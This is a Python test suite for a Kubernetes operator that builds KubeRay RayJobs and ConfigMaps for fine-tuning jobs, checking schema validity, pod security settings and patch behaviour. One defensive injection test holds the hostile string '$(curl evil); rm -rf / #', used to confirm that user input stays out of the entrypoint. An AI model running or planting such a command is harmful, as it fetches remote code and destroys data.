"""RayJob and ConfigMap builders: every example and a table of variants, each checked
against KubeRay v1.7.0's real CRD schema and for the fields that matter."""

from __future__ import annotations

import hashlib
import json

import kubernetes_validate
import pytest

from pure_helpers import example_jobs, stored_job, is_dns1035_label, is_dns1123_label
from tests.support.rayjob_schema import assert_valid_rayjob, rayjob_errors
from finetune_operator import builders, naming
from finetune_operator.api import FineTuneJob, parse_quantity
from finetune_operator.settings import RayJobDefaults, Settings
from finetune_trainer.config import JobConfig

SETTINGS = Settings()

VARIANTS = {
    "defaults": {},
    "gpu": {"resources": {"worker": {"gpu": 2, "cpu": "8", "memory": "32Gi"}, "acceleratorType": "nvidia-l4",
                          "rayAcceleratorType": "L4"}},
    "multi-worker": {"resources": {"workers": 6, "worker": {"cpu": "3500m", "memory": "12Gi"}}},
    "tolerations": {"resources": {
        "nodeSelector": {"pool": "train"},
        "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "ml", "effect": "NoSchedule"},
                        {"operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 30}],
    }},
    "kueue": {"scheduling": {"queueName": "team-queue", "priorityClassName": "high"}},
    "secret-ref": {"output": {"uri": "s3://models/x", "endpoint": "http://minio.storage:9000",
                              "region": "us-east-1", "secretRef": {"name": "s3-creds"}}},
    "suspend": {"scheduling": {"suspend": True, "activeDeadlineSeconds": 7200, "backoffLimit": 3,
                               "ttlSecondsAfterFinished": 0}},
    "shared-memory": {"resources": {"sharedMemory": "3Gi", "image": "registry.local/trainer:dev"}},
}
LONG_NAMES = ["a" * 253, "x" * 47, "x" * 48, "v1.2.release-candidate." + "z" * 60, "9lives"]


def _cases() -> list[tuple[str, dict, object]]:
    cases = []
    for case_id, document in example_jobs():
        job = FineTuneJob.model_validate(document)
        cases.append((case_id, document, job.spec))
    for variant, overrides in VARIANTS.items():
        job_obj, spec = stored_job(**overrides)
        cases.append((variant, job_obj, spec))
    for name in LONG_NAMES:
        job_obj, spec = stored_job(name=name)
        cases.append((f"name-{len(name)}-{name[:6]}", job_obj, spec))
    return cases


CASES = _cases()


def test_every_example_is_covered():
    assert len([c for c in CASES if "#" in c[0]]) >= 6, "examples/ should hold the six example manifests"


@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
def test_rayjob_matches_kuberay_schema(case_id, job_obj, spec):
    assert_valid_rayjob(builders.build_rayjob(job_obj, spec, SETTINGS))


@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
def test_rayjob_invariants(case_id, job_obj, spec):
    """What holds for every RayJob, whatever the spec. The values a spec sets are pinned
    whole by the golden files (test_pure_golden.py) and, for the variants, below."""
    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
    meta = job_obj["metadata"]
    name = rayjob["metadata"]["name"]
    assert len(name) <= naming.MAX_RAYJOB_NAME and is_dns1035_label(name)
    assert rayjob["metadata"]["namespace"] == meta["namespace"]
    assert rayjob["metadata"]["ownerReferences"] == [{
        "apiVersion": "finetune.dev/v1alpha1", "kind": "FineTuneJob", "name": meta["name"],
        "uid": meta["uid"], "controller": True, "blockOwnerDeletion": True,
    }]
    labels = rayjob["metadata"]["labels"]
    assert labels[naming.MANAGED_BY_LABEL] == "finetune-operator"
    assert labels[naming.JOB_UID_LABEL] == meta["uid"]
    assert all(len(v) <= 63 for v in labels.values())

    body = rayjob["spec"]
    assert body["entrypoint"] == "python -m finetune_trainer --config /etc/finetune/job.json"
    # Deletion rules, not shutdownAfterJobFinishes (KubeRay refuses both at once).
    assert "shutdownAfterJobFinishes" not in body and "ttlSecondsAfterFinished" not in body

    cluster = body["rayClusterSpec"]
    [group] = cluster["workerGroupSpecs"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"]
    head_pod = cluster["headGroupSpec"]["template"]["spec"]
    worker_pod = group["template"]["spec"]
    [head] = head_pod["containers"]
    [worker] = worker_pod["containers"]
    assert head["image"] == worker["image"]

    for container in (head, worker):
        # Requests equal limits (Guaranteed QoS); disk is only requested, never limited.
        limits = container["resources"]["limits"]
        assert {k: v for k, v in container["resources"]["requests"].items() if k != "ephemeral-storage"} == limits
        assert "ephemeral-storage" not in limits
    assert "nvidia.com/gpu" not in head["resources"]["limits"]

    # The job's config reaches the head pod only through the ConfigMap.
    config_volume = next(v for v in head_pod["volumes"] if v["name"] == builders.CONFIG_VOLUME)
    assert config_volume["configMap"]["name"] == naming.configmap_name(meta["name"])
    assert {"name": builders.CONFIG_VOLUME, "mountPath": "/etc/finetune", "readOnly": True} in head["volumeMounts"]
    assert all(v["name"] != builders.CONFIG_VOLUME for v in worker_pod["volumes"])

    for pod, container in ((head_pod, head), (worker_pod, worker)):
        shm = next(v for v in pod["volumes"] if v["name"] == builders.SHM_VOLUME)
        assert shm["emptyDir"]["medium"] == "Memory"
        assert {"name": builders.SHM_VOLUME, "mountPath": "/dev/shm"} in container["volumeMounts"]
        security = container["securityContext"]
        assert security["runAsNonRoot"] is True
        assert security["allowPrivilegeEscalation"] is False
        assert security["capabilities"] == {"drop": ["ALL"]}
        assert "secretRef" not in json.dumps(pod["volumes"])

    # Placement applies to workers; the head needs no GPU node.
    assert "nodeSelector" not in head_pod and "tolerations" not in head_pod


def _worker_pod(rayjob: dict) -> dict:
    return rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]


def _cluster_ttls(rayjob: dict) -> set[int]:
    rules = rayjob["spec"]["deletionStrategy"]["deletionRules"]
    return {r["condition"]["ttlSeconds"] for r in rules if r["policy"] == "DeleteCluster"}


def test_variant_fields_reach_the_rayjob():
    """The spec fields the golden files do not cover, each with its literal result."""
    def built(variant: str) -> dict:
        job_obj, spec = stored_job(**VARIANTS[variant])
        return builders.build_rayjob(job_obj, spec, SETTINGS)

    suspended = built("suspend")["spec"]
    assert (suspended["suspend"], suspended["backoffLimit"], suspended["activeDeadlineSeconds"]) == (True, 3, 7200)
    assert _cluster_ttls(built("suspend")) == {0}

    shared = built("shared-memory")
    pod = _worker_pod(shared)
    assert pod["containers"][0]["image"] == "registry.local/trainer:dev"
    assert next(v for v in pod["volumes"] if v["name"] == builders.SHM_VOLUME)["emptyDir"]["sizeLimit"] == "3Gi"

    pod = _worker_pod(built("tolerations"))
    assert pod["nodeSelector"] == {"pool": "train"}
    assert pod["tolerations"] == [{"key": "dedicated", "operator": "Equal", "value": "ml", "effect": "NoSchedule"},
                                  {"operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 30}]

    rayjob = built("secret-ref")
    cluster = rayjob["spec"]["rayClusterSpec"]
    for template in (cluster["headGroupSpec"]["template"], cluster["workerGroupSpecs"][0]["template"]):
        assert template["spec"]["containers"][0]["envFrom"] == [{"secretRef": {"name": "s3-creds"}}]
    assert "envFrom" not in _worker_pod(built("defaults"))["containers"][0]

    rayjob = built("multi-worker")
    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    assert group["replicas"] == 6
    assert group["template"]["spec"]["containers"][0]["resources"]["limits"] == {"cpu": "3500m", "memory": "12Gi"}


@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
def test_configmap_holds_the_jobconfig(case_id, job_obj, spec):
    configmap = builders.build_configmap(job_obj, spec, SETTINGS)
    meta = job_obj["metadata"]
    assert configmap["metadata"]["name"] == naming.configmap_name(meta["name"])
    assert is_dns1123_label(configmap["metadata"]["name"])
    assert configmap["metadata"]["ownerReferences"][0]["uid"] == meta["uid"]
    config = JobConfig.model_validate(json.loads(configmap["data"]["job.json"]))
    assert config == spec.job_config(naming.run_name(meta["namespace"], meta["name"]))
    # Credentials never reach the config: only the Secret's name travels, via envFrom.
    assert "secretRef" not in configmap["data"]["job.json"]
    kubernetes_validate.validate(configmap, "1.37", strict=True)
    # The pods carry the hash of exactly this config, so a changed config shows.
    digest = hashlib.sha256(configmap["data"]["job.json"].encode()).hexdigest()[:16]
    cluster = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]["rayClusterSpec"]
    for template in (cluster["headGroupSpec"]["template"], cluster["workerGroupSpecs"][0]["template"]):
        assert template["metadata"]["annotations"][naming.CONFIG_HASH_ANNOTATION] == digest


def test_user_strings_never_reach_the_entrypoint(make_job):
    hostile = "$(curl evil); rm -rf / #"
    job_obj, spec = make_job(data={"train": f"s3://b/{hostile}", "textColumn": hostile})
    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
    assert hostile not in rayjob["spec"]["entrypoint"]
    assert hostile not in json.dumps(rayjob)
    assert hostile in builders.build_configmap(job_obj, spec, SETTINGS)["data"]["job.json"]


def test_gpu_workers_tolerate_the_gpu_taint_once(make_job):
    taint = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
    job_obj, spec = make_job(resources={"worker": {"gpu": 1}, "tolerations": [taint]})
    pod = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]
    assert pod["spec"]["tolerations"] == [taint]
    job_obj, spec = make_job()
    pod = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]
    assert "tolerations" not in pod["spec"]


@pytest.mark.parametrize(("memory", "shared", "ratio", "expected"), [
    ("8Gi", None, 0.25, "2048Mi"),
    ("1Gi", None, 0.5, "512Mi"),
    ("3G", None, 0.25, "716Mi"),
    ("8Gi", "1Gi", 0.25, "1Gi"),
])
def test_shm_size(memory, shared, ratio, expected):
    settings = Settings(rayjob=RayJobDefaults(shm_ratio=ratio))
    assert builders.shm_size(memory, shared, settings) == expected
    if shared is None:
        assert parse_quantity(expected) >= parse_quantity(memory) * ratio


def test_settings_shape_the_rayjob(make_job):
    settings = Settings(
        default_image="registry.local/trainer:1", default_s3_endpoint="http://minio:9000", default_s3_region="eu-1",
        rayjob=RayJobDefaults(ray_version="2.61.0", service_account="ray-runner", ttl_seconds_after_finished=5,
                              pre_running_deadline_seconds=600, run_as_user=4242, accelerator_node_label=None),
    )
    job_obj, spec = make_job(resources={"worker": {"gpu": 1}, "acceleratorType": "a100"})
    rayjob = builders.build_rayjob(job_obj, spec, settings)
    body = rayjob["spec"]
    assert body["rayClusterSpec"]["rayVersion"] == "2.61.0"
    assert {r["condition"]["ttlSeconds"] for r in body["deletionStrategy"]["deletionRules"]} == {0, 5}
    assert body["preRunningDeadlineSeconds"] == 600
    worker_pod = body["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]
    assert worker_pod["serviceAccountName"] == "ray-runner"
    assert "nodeSelector" not in worker_pod
    [worker] = worker_pod["containers"]
    assert worker["image"] == "registry.local/trainer:1"
    assert worker["securityContext"]["runAsUser"] == 4242
    env = {e["name"]: e["value"] for e in worker["env"]}
    assert env["AWS_ENDPOINT_URL"] == "http://minio:9000"
    assert env["AWS_REGION"] == "eu-1"
    assert env["FINETUNE_RUN_NAME"] == "team-a-reviews"
    submitter = body["submitterPodTemplate"]["spec"]
    assert submitter["serviceAccountName"] == "ray-runner"
    # The submitter only runs `ray job submit`: a small Ray image, not the trainer's.
    assert submitter["containers"][0]["image"] == "rayproject/ray:2.61.0-py311-cpu"


def test_a_job_object_without_uid_is_refused(make_job):
    job_obj, spec = make_job()
    del job_obj["metadata"]["uid"]
    with pytest.raises(ValueError, match="metadata.uid"):
        builders.build_rayjob(job_obj, spec, SETTINGS)


@pytest.mark.parametrize("breakage", ["misspelt-field", "bad-type", "missing-group-name"])
def test_schema_check_catches_mistakes(breakage, make_job):
    """The schema check itself can fail: unknown fields, wrong types, missing
    required fields are all reported."""
    job_obj, spec = make_job()
    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    if breakage == "misspelt-field":
        group["template"]["spec"]["containers"][0]["volumeMount"] = []
    elif breakage == "bad-type":
        group["replicas"] = "2"
    else:
        del group["groupName"]
    assert rayjob_errors(rayjob)


@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES[:12], ids=[c[0] for c in CASES[:12]])
def test_pod_templates_are_valid_kubernetes_1_37(case_id, job_obj, spec):
    """Each pod template, wrapped as a core/v1 PodTemplate, passes the Kubernetes
    1.37 schema in strict mode (unknown fields are errors)."""
    body = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]
    templates = {
        "head": body["rayClusterSpec"]["headGroupSpec"]["template"],
        "worker": body["rayClusterSpec"]["workerGroupSpecs"][0]["template"],
        "submitter": body["submitterPodTemplate"],
    }
    for role, template in templates.items():
        wrapped = {"apiVersion": "v1", "kind": "PodTemplate", "metadata": {"name": role}, "template": template}
        kubernetes_validate.validate(wrapped, "1.37", strict=True)


def _live(job_obj, spec, state="Running"):
    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
    rayjob["status"] = {"jobDeploymentStatus": state}
    return rayjob


def test_patch_is_none_when_in_line(make_job):
    job_obj, spec = make_job(scheduling={"activeDeadlineSeconds": 100})
    assert builders.build_rayjob_patch(_live(job_obj, spec), spec, SETTINGS) is None


@pytest.mark.parametrize(("scheduling", "expected"), [
    ({"suspend": True}, {"suspend": True}),
    ({"ttlSecondsAfterFinished": 5}, {"deletionStrategy": builders.deletion_strategy(5)}),
    ({"activeDeadlineSeconds": 30}, {"activeDeadlineSeconds": 30}),
])
def test_patch_carries_mutable_changes(make_job, scheduling, expected):
    job_obj, spec = make_job()
    live = _live(job_obj, spec)
    _, changed = make_job(scheduling=scheduling)
    assert builders.build_rayjob_patch(live, changed, SETTINGS) == {"spec": expected}


def test_patch_removes_a_dropped_deadline(make_job):
    job_obj, spec = make_job(scheduling={"activeDeadlineSeconds": 30})
    _, changed = make_job()
    assert builders.build_rayjob_patch(_live(job_obj, spec), changed, SETTINGS) == {
        "spec": {"activeDeadlineSeconds": None}}


def test_kueue_lifts_its_own_suspend(make_job):
    job_obj, spec = make_job(scheduling={"queueName": "q"})
    live = _live(job_obj, spec, state="Suspended")
    assert live["spec"]["suspend"] is True
    assert builders.build_rayjob_patch(live, spec, SETTINGS) is None
    live["spec"]["suspend"] = False  # Kueue admitted it
    _, suspended = make_job(scheduling={"queueName": "q", "suspend": True})
    assert builders.build_rayjob_patch(live, suspended, SETTINGS) == {"spec": {"suspend": True}}


@pytest.mark.parametrize("state", ["Complete", "Failed", "ValidationFailed"])
def test_finished_rayjobs_are_not_patched(make_job, state):
    job_obj, spec = make_job()
    _, changed = make_job(scheduling={"suspend": True})
    assert builders.build_rayjob_patch(_live(job_obj, spec, state), changed, SETTINGS) is None
